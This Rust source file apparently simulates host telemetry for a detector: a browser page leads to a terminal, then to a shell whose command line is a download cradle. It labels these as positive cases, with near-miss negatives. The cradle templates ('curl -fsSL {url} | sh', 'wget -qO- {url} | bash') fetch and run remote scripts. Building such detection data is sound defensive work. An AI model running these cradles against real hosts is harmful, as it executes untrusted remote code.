//! Linux `terminal-cradle`: browser → terminal → shell whose command line is a download cradle
//! → curl/wget reaching an untrusted domain. No file is written: the shell's start is the
//! anchor, and the label names the shell's image as `final_path`.

use clickchain_adapters::EventKind;

use super::{built, near_miss, positive, Built, Case};
use crate::chain::Injected;
use crate::host::HostSim;
use crate::variant::{Anchor, Variant};
use crate::ChainVia;

const TERMINALS: [&str; 7] = [
    "/usr/libexec/gnome-terminal-server",
    "/usr/bin/konsole",
    "/usr/bin/xterm",
    "/usr/bin/x-terminal-emulator",
    "/usr/bin/xfce4-terminal",
    "/usr/bin/alacritty",
    "/usr/bin/kitty",
];

const SHELL: &str = "/usr/bin/bash";

/// Cradles: the shell's command line, the fetcher's image and command line, and whether a
/// second shell reads the script from a pipe.
fn cradle(h: &mut HostSim, url: &str) -> (String, &'static str, String, bool) {
    match h.rng.below(3) {
        0 => (format!("bash -c \"curl -fsSL {url} | sh\""), "/usr/bin/curl", format!("curl -fsSL {url}"), true),
        1 => (format!("bash -c \"wget -qO- {url} | bash\""), "/usr/bin/wget", format!("wget -qO- {url}"), true),
        _ => (format!("bash -c \"$(curl -fsSL {url})\""), "/usr/bin/curl", format!("curl -fsSL {url}"), false),
    }
}

/// Positive: a page on an untrusted domain, then from the browser a terminal running a cradle
/// to it. Near miss 0: the same cradle in a terminal the desktop shell started (no browser
/// lineage); near miss 1: from the browser, a cradle to an allowlisted domain.
pub(super) fn terminal_cradle(h: &mut HostSim, t: i64, case: Case) -> Option<Injected> {
    let n = h.next_n();
    let trusted = case == Case::NearMiss(1);
    let domain = if trusted { "packages.microsoft.com".to_owned() } else { h.risky(true) };
    let page = format!("https://{domain}/docs/install?id={n}");
    let (root, net) = (h.root.clone(), h.net.clone());
    let click = h.emit(t, EventKind::UrlOpen { proc: root.clone(), url: page.clone() });
    let ip = h.dns(t + 200, Some(root.clone()), &domain);
    h.connect(t + 300, &net, ip, trusted.then_some(domain.as_str()));
    let parent = match case {
        Case::NearMiss(0) => h.shell.clone(),
        _ => root.clone(),
    };
    let term_image = *h.rng.pick(&TERMINALS);
    let term_cmd = term_image.rsplit('/').next().unwrap_or(term_image).to_owned();
    let term = h.spawn(t + 2_000, Some(t + 90_000), &parent, term_image, Some(term_cmd), false);
    let url = format!("https://{domain}/install.sh");
    let (shell_cmd, fetcher, fetch_cmd, piped) = cradle(h, &url);
    let anchor_ms = t + 2_500;
    let anchor = h.out.len() as u32;
    let shell = h.spawn(anchor_ms, Some(t + 30_000), &term, SHELL, Some(shell_cmd), false);
    let fetch = h.spawn(anchor_ms + 100, Some(anchor_ms + 6_000), &shell, fetcher, Some(fetch_cmd), false);
    if piped {
        h.spawn(anchor_ms + 120, Some(anchor_ms + 9_000), &shell, "/usr/bin/sh", Some("sh".to_owned()), false);
    }
    let ip = h.dns(anchor_ms + 300, Some(fetch.clone()), &domain);
    let egress_ms = anchor_ms + 500;
    let connect = h.out.len() as u32;
    h.connect(egress_ms, &fetch, ip, trusted.then_some(domain.as_str()));
    if let Case::NearMiss(_) = case {
        near_miss(h, Variant::TerminalCradle, SHELL, anchor_ms);
        return None;
    }
    let chain = built(
        h,
        Built {
            root,
            root_image: h.path(h.browser.image),
            via: ChainVia::UrlOpen,
            url: page,
            domain,
            path: SHELL.to_owned(),
            click_ms: t,
            egress_ms,
            write_ms: anchor_ms,
            lineage_depth: 2,
            anchor: Anchor::Process,
            seqs: vec![click, anchor, connect],
        },
    );
    Some(positive(chain, Variant::TerminalCradle, false, &[Variant::TerminalCradle]))
}
